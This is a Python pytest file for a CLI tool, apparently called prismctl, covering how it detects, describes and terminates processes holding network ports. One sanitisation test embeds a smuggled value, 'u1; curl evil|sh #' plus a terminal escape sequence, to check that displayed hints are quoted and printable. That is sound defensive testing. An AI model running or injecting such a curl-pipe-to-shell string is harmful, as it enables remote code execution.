from __future__ import annotations

import os
import shutil
import signal
import subprocess
import sys
import time
from typing import TYPE_CHECKING

import psutil
import pytest

from prismctl.cli.holder_ending import (
    Ending,
    end_holder,
    is_protected,
    is_same_holder,
    taken_of,
)
from prismctl.cli.port_questions import (
    HeldPorts,
    choices_for,
    find_obstacle,
    group_by_holder,
    obstacle_lines,
)
from prismctl.domain.addressing import PortConflict, PortHolder
from prismctl.domain.host_port import HostPort, PortProtocol
from prismctl.domain.port_owner import ContainerOwner, StackOwner
from prismctl.domain.service import ServiceName
from prismctl.files.stack_owners import recognize_stack
from prismctl.machine import is_port_free, who_holds
from prismctl.present.text import plain
from tests.free_ports import take_port
from tests.port_holder import holding

if TYPE_CHECKING:
    from prismctl.files.paths import Home

ANA = PortHolder(pid=7, command="python3 server.py", user="ana", since=1000.0)
FORBIDDEN = """
import sys
from prismctl.cli.holder_ending import end_holder
from prismctl.domain.host_port import HostPort
from prismctl.machine import who_holds
port = HostPort(int(sys.argv[1]))
print(end_holder([port], who_holds(*port)).value)
"""


def seen(port: int) -> PortHolder:
    holder = who_holds(port)
    assert holder is not None
    return holder


def held_in(home: Home, *holders: PortHolder | None) -> HeldPorts:
    """Ports that somebody has, from 8981 on, for which one answer is enough."""
    named = (recognize_stack(holder, home) for holder in holders)
    (held,) = group_by_holder(conflicts_of(*named))
    return held


def conflicts_of(*holders: PortHolder | None) -> list[PortConflict]:
    return [
        PortConflict(number, ServiceName("web"), f"p{number}", holder)
        for number, holder in enumerate(holders, start=8981)
    ]


def test_a_hint_about_a_holder_has_no_escape_sequences_in_it() -> None:
    evil = "u1; curl evil|sh #\x1b]0;OWNED\x07"
    stack = StackOwner("k", stack=evil, home=f"/tmp/{evil}", is_other_home=True)
    for holder in (
        ANA._replace(owner=stack),
        ANA._replace(container=ContainerOwner("podman", evil)),
    ):
        (held,) = group_by_holder(conflicts_of(holder))
        obstacle = find_obstacle(held)
        assert obstacle is not None
        shown = [plain(each) for each in obstacle_lines(obstacle)]
        assert all(each.isprintable() for each in shown)
        assert "'u1; curl evil|sh #" in shown[-1] or "'/tmp/u1; curl evil|sh #" in shown[-1]


def test_a_holder_is_ended_and_the_port_is_free() -> None:
    port = take_port()
    with holding(port) as process:
        assert end_holder([HostPort(port)], seen(port)) is Ending.FREE
        assert is_port_free(port)
        assert process.wait(10) == -signal.SIGTERM


def test_a_stubborn_holder_stays_until_it_is_killed(monkeypatch: pytest.MonkeyPatch) -> None:
    port = take_port()
    with holding(port, is_stubborn=True) as process:
        holder = seen(port)
        monkeypatch.setattr("prismctl.cli.holder_ending.GRACE_SECONDS", 0.2)
        began = time.monotonic()
        assert end_holder([HostPort(port)], holder) is Ending.STAYS
        assert time.monotonic() - began < 5
        assert process.poll() is None
        monkeypatch.undo()
        assert end_holder([HostPort(port)], holder, kills=True) is Ending.FREE
        assert process.wait(10) == -signal.SIGKILL


@pytest.mark.parametrize("has_descriptors", [True, False])
def test_a_process_with_the_same_number_that_began_later_is_spared(
    monkeypatch: pytest.MonkeyPatch,
    has_descriptors: bool,  # noqa: FBT001 - a column of the table
) -> None:
    if not has_descriptors:
        monkeypatch.delattr(os, "pidfd_open", raising=False)
    port = take_port()
    with holding(port) as process:
        holder = seen(port)
        assert holder.since is not None
        earlier = holder._replace(since=holder.since - 60)
        assert end_holder([HostPort(port)], earlier) is Ending.CHANGED
        assert process.poll() is None
        assert end_holder([HostPort(port)], holder) is Ending.FREE


def test_a_holder_that_let_go_is_spared() -> None:
    port, other = take_port(), take_port()
    with holding(other) as process:
        holder = seen(other)
        assert end_holder([HostPort(port)], holder) is Ending.FREE
        assert process.stdin is not None
        process.stdin.close()
        assert process.wait(10) == 0


def test_a_holder_that_has_ended_is_no_error() -> None:
    port = take_port()
    with holding(port) as process:
        holder = seen(port)
        process.kill()
        process.wait(10)
        assert end_holder([HostPort(port)], holder) is Ending.FREE


@pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("setpriv") is None,
    reason="needs root to become somebody else",
)
def test_a_holder_that_may_not_be_ended_is_told_apart() -> None:
    port = take_port()
    # Somebody who may look into the processes of others, but not send them signals.
    somebody = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    somebody += ["--inh-caps=+sys_ptrace,+dac_override", "--ambient-caps=+sys_ptrace,+dac_override"]
    with holding(port) as process:
        done = subprocess.run(
            [*somebody, sys.executable, "-c", FORBIDDEN, str(port)],
            capture_output=True,
            text=True,
            timeout=30,
            check=False,
        )
        if "setpriv:" in done.stderr:
            pytest.skip(done.stderr)
        assert done.stdout == "forbidden\n", done.stderr
        assert process.poll() is None


@pytest.mark.parametrize(
    ("found", "is_same"),
    [
        (ANA, True),
        (ANA._replace(since=1001.0), True),
        (ANA._replace(command="python3 server.py --and-more"), True),
        (ANA._replace(since=1003.0), False),
        (ANA._replace(since=None), False),
        (ANA._replace(pid=8), False),
        (ANA._replace(user="ben"), False),
        (PortHolder(user="ana"), False),
        (None, False),
    ],
)
def test_a_process_is_the_same_by_its_number_its_user_and_its_start(
    found: PortHolder | None,
    is_same: bool,  # noqa: FBT001 - a column of the table
) -> None:
    assert is_same_holder(ANA, found) is is_same


def test_this_process_and_what_it_runs_in_are_protected(home: Home) -> None:
    own = psutil.Process()
    for pid in (1, own.pid, own.ppid()):
        assert is_protected(pid)
        obstacle = find_obstacle(held_in(home, PortHolder(pid=pid)))
        assert obstacle is not None
        assert obstacle.why == f"PID {pid} is what this command runs in"


def test_a_stranger_is_no_obstacle(home: Home) -> None:
    with holding(take_port()) as process:
        assert not is_protected(process.pid)
        assert find_obstacle(held_in(home, PortHolder(pid=process.pid))) is None


def test_what_holds_the_port_of_a_container_is_left_to_its_tool(home: Home) -> None:
    container = ContainerOwner("podman", "shop-db")
    with holding(take_port()) as process:
        held = held_in(home, PortHolder(pid=process.pid, command="conmon", container=container))
        obstacle = find_obstacle(held)
    assert obstacle is not None
    assert "container shop-db" in obstacle.why
    assert obstacle.advice == "`podman stop shop-db` ends it"


def test_a_holder_that_cannot_be_seen_is_shown_a_way_to(home: Home) -> None:
    obstacle = find_obstacle(held_in(home, PortHolder(user="postgres")))
    assert obstacle is not None
    assert "user postgres" in obstacle.why
    assert "sudo " in obstacle.advice
    assert "8981" in obstacle.advice
    assert find_obstacle(held_in(home, None)) is not None


def test_a_process_of_a_stack_is_left_to_its_stack(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    home.stack("two").ensure()
    for mark, words, first in (
        (home.stack("two").keeper_id, "`prismctl dev stop --stack two` stops it", "s"),
        ("prism-0000000000000000", "`prismctl dev stop` with its PRISM_HOME stops it", "r"),
    ):
        monkeypatch.setenv("PRISM_KEEPER", mark)
        port = take_port()
        with holding(port):
            held = held_in(home, seen(port))
        obstacle = find_obstacle(held)
        assert obstacle is not None
        assert obstacle.advice == words
        keys = [choice.key for choice in choices_for(held, can_end=False, is_stubborn=False)]
        assert keys == [first, "a", "q"]


def test_one_question_is_enough_for_all_ports_of_one_holder() -> None:
    ben = PortHolder(pid=8, user="ben")
    unseen = PortHolder(user="postgres")
    conflicts = conflicts_of(ANA, unseen, ben, ANA._replace(since=1000.5), None, unseen, None)
    assert [tuple(each.number for each in held.ports) for held in group_by_holder(conflicts)] == [
        (8981, 8984),
        (8982, 8986),
        (8983,),
        (8985, 8987),
    ]


def test_one_question_is_enough_for_all_processes_of_one_stack(
    home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    home.stack("two").ensure()
    monkeypatch.setenv("PRISM_KEEPER", home.stack("two").keeper_id)
    one, other = take_port(), take_port()
    with holding(one) as first, holding(other) as second:
        held = held_in(home, seen(one), seen(other))
        obstacle = find_obstacle(held)
    assert obstacle is not None
    assert obstacle.why == (
        f"PIDs {first.pid} and {second.pid} belong to stack two, which would start them again"
    )


def test_a_holder_is_waited_for_until_all_its_ports_are_free() -> None:
    ports = [take_port(), take_port(), take_port()]
    with holding(*ports) as process:
        assert end_holder([HostPort(port) for port in ports], seen(ports[0])) is Ending.FREE
        assert all(is_port_free(port) for port in ports)
        assert process.wait(10) == -signal.SIGTERM


def test_a_port_that_another_one_has_stays_taken_when_the_holder_has_ended() -> None:
    own, others = take_port(), take_port()
    with holding(own) as process, holding(others) as other:
        ports = [HostPort(own), HostPort(others)]
        assert end_holder(ports, seen(own)) is Ending.CHANGED
        assert taken_of(ports) == [HostPort(others)]
        assert process.wait(10) == -signal.SIGTERM
        assert other.poll() is None


def test_the_holder_of_a_udp_port_is_ended_and_waited_for() -> None:
    port = HostPort(take_port(), PortProtocol.UDP)
    with holding(port.number, protocol="udp") as process:
        holder = who_holds(*port)
        assert holder is not None
        assert holder.pid == process.pid
        assert end_holder([port], holder) is Ending.FREE
        assert is_port_free(*port)
        assert process.wait(10) == -signal.SIGTERM


def test_root_is_told_how_to_look_for_who_has_a_udp_port() -> None:
    unseen = PortHolder(user="root")
    conflict = PortConflict(5353, ServiceName("dns"), "main", unseen, PortProtocol.UDP)
    (held,) = group_by_holder([conflict])
    obstacle = find_obstacle(held)
    assert obstacle is not None
    expected = {
        "linux": "`sudo ss -lunp 'sport = :5353'` shows which",
        "darwin": "`sudo lsof -iUDP:5353` shows which",
    }
    assert obstacle.advice == expected[sys.platform]


@pytest.mark.parametrize(
    ("can_end", "is_stubborn", "words"),
    [
        (True, False, ["k end PID 7", "a give web another port", "q stop here"]),
        (True, True, ["k kill PID 7", "a give web another port", "q stop here"]),
        (False, False, ["r look again", "a give web another port", "q stop here"]),
    ],
)
def test_what_can_be_done_about_a_port(
    words: list[str],
    can_end: bool,  # noqa: FBT001 - a column of the table
    is_stubborn: bool,  # noqa: FBT001 - a column of the table
) -> None:
    held = HeldPorts(tuple(conflicts_of(ANA)))
    choices = choices_for(held, can_end=can_end, is_stubborn=is_stubborn)
    assert [f"{choice.key} {choice.words}" for choice in choices] == words
